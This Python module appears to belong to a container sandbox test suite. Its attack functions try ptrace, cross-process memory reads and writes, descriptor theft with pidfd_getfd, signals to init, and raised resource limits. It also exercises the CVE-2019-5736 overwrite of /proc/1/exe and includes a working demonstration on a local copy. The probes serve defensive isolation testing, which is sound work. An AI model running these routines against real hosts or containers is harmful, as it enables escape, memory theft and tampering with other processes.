"""Other processes: their memory, their descriptors, their control (S14, CVE-2019-5736)."""

import ctypes
import os
import resource
import signal
import struct

from hostile import Refused, Victim, attack, attempt, in_child, main, past_check, syscall, token_in

ATTACH, DETACH, PEEK, SEIZE, TRACEME = 16, 17, 2, 0x4206, 0
LENGTH = 256


class IoVector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


@attack
def ptrace_child():
    with Victim() as victim:
        with attempt("ptrace"):
            syscall(101, ATTACH, victim.pid, 0, 0)
        os.waitpid(victim.pid, 0)
        words = (ctypes.c_ulong * 8)()
        for index in range(8):
            address = victim.address + 8 * index
            syscall(101, PEEK, victim.pid, address, ctypes.byref(words, 8 * index))
        syscall(101, DETACH, victim.pid, 0, 0)
        return token_in(bytes(words))


@attack
def ptrace_init():
    with attempt("ptrace"):
        syscall(101, SEIZE, 1, 0, 0)
    return "seized"


@attack
def ptrace_me():
    def ask():
        with attempt("ptrace"):
            syscall(101, TRACEME, 0, 0, 0)
        return "traced"

    return in_child(ask)


def read_memory(pid, address):
    buffer = ctypes.create_string_buffer(LENGTH)
    mine = IoVector(ctypes.addressof(buffer), LENGTH)
    theirs = IoVector(address, LENGTH)
    with attempt("process_vm_readv"):
        syscall(310, pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return buffer.raw


@attack
def process_vm_readv():
    with Victim() as victim:
        return token_in(read_memory(victim.pid, victim.address))


@attack
def process_vm_writev():
    with Victim() as victim:
        buffer = ctypes.create_string_buffer(b"written")
        mine, theirs = IoVector(ctypes.addressof(buffer), 7), IoVector(victim.address, 7)
        with attempt("process_vm_writev"):
            count = syscall(311, victim.pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
        return "written" if count == 7 else "nothing"


@attack
def memory_of_init():
    with attempt("open"):
        file = os.open("/proc/1/mem", os.O_RDONLY)
    os.close(file)
    return "opened"


@attack
def pidfd_getfd():
    with Victim() as victim:
        with attempt("pidfd_open"):
            process = os.pidfd_open(victim.pid)
        with attempt("pidfd_getfd"):
            file = syscall(438, process, victim.descriptor, 0)
        return token_in(os.pread(file, LENGTH, 0))


@attack
def kcmp():
    """Compares kernel objects of two processes: an order of their addresses."""
    with Victim() as victim, attempt("kcmp"):
        answer = syscall(312, os.getpid(), victim.pid, 1, 0, 0)
    return "compared" if answer in (0, 1, 2) else "?"


@attack
def process_madvise():
    with Victim() as victim:
        with attempt("pidfd_open"):
            process = os.pidfd_open(victim.pid)
        page = IoVector(victim.address & ~4095, 4096)
        with attempt("process_madvise"):
            syscall(440, process, ctypes.byref(page), 1, 20, 0)
        return "advised"


@attack
def process_mrelease():
    with Victim() as victim:
        with attempt("pidfd_open"):
            process = os.pidfd_open(victim.pid)
        with attempt("process_mrelease"):
            return past_check(448, process, 0)


@attack
def move_pages():
    """Tells on which node another process's pages lie."""
    with Victim() as victim:
        page, status = ctypes.c_void_p(victim.address & ~4095), ctypes.c_int(-1000)
        with attempt("move_pages"):
            syscall(279, victim.pid, 1, ctypes.byref(page), 0, ctypes.byref(status), 0)
        return "told" if status.value != -1000 else "nothing"


@attack
def signal_init():
    """From the same PID namespace; the kernel delivers what init handles or, from outside, SIGKILL."""
    with attempt("kill"):
        os.kill(1, signal.SIGCONT)
    return "sent"


@attack
def kill_init():
    """SIGKILL and SIGSTOP have no effect on an init, whoever sends them from inside: this must go on running."""
    refused = 0
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        try:
            os.kill(1, number)
        except PermissionError:
            refused += 1
    if refused == 4:
        raise Refused("kill: EPERM")
    return "sent"


@attack
def overwrite_exe():
    """CVE-2019-5736: the executable of init, by its magic link."""
    with attempt("open"):
        program = os.open("/proc/1/exe", os.O_PATH)
    with attempt("open for writing"):
        os.close(os.open(f"/proc/self/fd/{program}", os.O_RDONLY))
    return "opened"


@attack
def overwrite_exe_mechanism():
    """The whole of it, on a process of one's own: hold the link, wait for the end, write."""
    import shutil

    path = f"/tmp/program-{os.getpid()}"
    shutil.copy("/usr/bin/sleep", path)
    pid = os.fork()
    if pid == 0:
        os.execv(path, [path, "60"])
    while os.readlink(f"/proc/{pid}/exe") != path:
        pass
    program = os.open(f"/proc/{pid}/exe", os.O_PATH)
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    file = os.open(f"/proc/self/fd/{program}", os.O_WRONLY | os.O_TRUNC)
    os.write(file, b"overwritten")
    return open(path).read()


@attack
def own_exe():
    """The executable that this process was started from, which the host executes too."""
    with attempt("open"):
        file = os.open("/proc/self/exe", os.O_RDONLY)
    with attempt("open for writing"):
        os.close(os.open(f"/proc/self/fd/{file}", os.O_WRONLY | os.O_APPEND))
    return "opened"


@attack
def own_exe_mechanism():
    import shutil

    path = f"/tmp/own-{os.getpid()}"
    shutil.copy("/usr/bin/sleep", path)
    os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
    return "opened"


@attack
def no_randomization():
    """personality(ADDR_NO_RANDOMIZE) makes every execution's layout the same."""

    def layouts():
        with attempt("personality"):
            syscall(135, 0x40000)
        reads = [os.popen("grep stack /proc/self/maps").read() for _ in range(2)]
        if reads[0] != reads[1]:
            raise Refused("layouts differ")
        return "same"

    return in_child(layouts)


@attack
def set_mm():
    """PR_SET_MM_MAP_SIZE: the harmless member of the calls that rewrite a process's own description."""
    size = ctypes.c_uint()
    with attempt("prctl"):
        syscall(157, 35, 15, ctypes.byref(size), 0, 0)
    return "told" if size.value else "nothing"


@attack
def raise_limits():
    """More than the hard limit, for itself."""
    current = ctypes.create_string_buffer(16)
    syscall(302, 0, 7, 0, current)
    _, hard = struct.unpack("<2Q", current.raw)
    more = ctypes.create_string_buffer(struct.pack("<2Q", hard + 1, hard + 1))
    with attempt("prlimit"):
        syscall(302, 0, 7, more, 0)
    return "raised"


@attack
def raise_limits_mechanism():
    """The soft limit may be raised to the hard one."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (100, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    resource.setrlimit(resource.RLIMIT_NOFILE, (101, resource.getrlimit(resource.RLIMIT_NOFILE)[1]))
    return "raised" if resource.getrlimit(resource.RLIMIT_NOFILE)[0] == 101 else "same"


@attack
def leave_oom_order():
    """A lower oom_score_adj: the neighbours are killed first."""
    with attempt("write"), open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
    return "changed"


@attack
def leave_oom_order_mechanism():
    """Towards being killed first it may be changed."""
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("1000")
    return "changed" if open("/proc/self/oom_score_adj").read() == "1000\n" else "same"


@attack
def realtime():
    """A priority before everybody else's."""
    parameter = ctypes.c_int(50)
    with attempt("sched_setscheduler"):
        syscall(144, 0, 1, ctypes.byref(parameter))
    return f"policy-{syscall(145, 0)}"


@attack
def negative_nice():
    with attempt("setpriority"):
        os.setpriority(os.PRIO_PROCESS, 0, -20)
    return str(os.getpriority(os.PRIO_PROCESS, 0))


main()
